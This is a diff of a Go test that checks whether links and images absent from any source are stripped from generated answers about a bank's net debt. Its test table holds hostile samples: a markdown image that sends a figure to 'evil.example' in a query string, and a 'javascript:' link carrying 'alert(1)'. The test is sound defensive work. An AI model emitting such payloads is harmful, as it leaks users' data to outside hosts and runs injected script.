@@ -202,7 +202,7 @@ func TestWhatAUserTypedIsNoEvidenceBesideTheAppsOwn(t *testing.T) {
 
 func TestAnAddressThatNoSourceHasIsNotShown(t *testing.T) {
 	ev := evidence(chunk.Chunk{ID: "q3", Text: results + " More at https://bank.example/q3.", URL: "https://bank.example/annual"})
-	for text, stands := range map[string]bool{
+	for text, stays := range map[string]bool{
 		"Net debt fell to NOK 3.9 billion, see https://bank.example/q3.":                   true,
 		"Net debt fell to NOK 3.9 billion ([report](https://bank.example/annual)).":        true,
 		"Net debt fell to NOK 3.9 billion. ![x](https://evil.example/?q=3.9)":              false,
@@ -211,8 +211,8 @@ func TestAnAddressThatNoSourceHasIsNotShown(t *testing.T) {
 		"Net debt fell to NOK 3.9 billion: [more](javascript://evil.example/%0aalert(1)).": false,
 	} {
 		r := Check(said(text, "q3", "Net debt fell to NOK 3.9 billion"), ev, rules())
-		if r.Segments[0].Stands != stands {
-			t.Errorf("%s: stands %t, want %t (%+v)", text, r.Segments[0].Stands, stands, r.Findings)
+		if kept := r.Segments[0].Text == text; kept != stays || stays == slices.Contains(codes(r), report.TargetRemoved) {
+			t.Errorf("%s: becomes %s (%+v)", text, r.Segments[0].Text, r.Findings)
 		}
 	}
 }
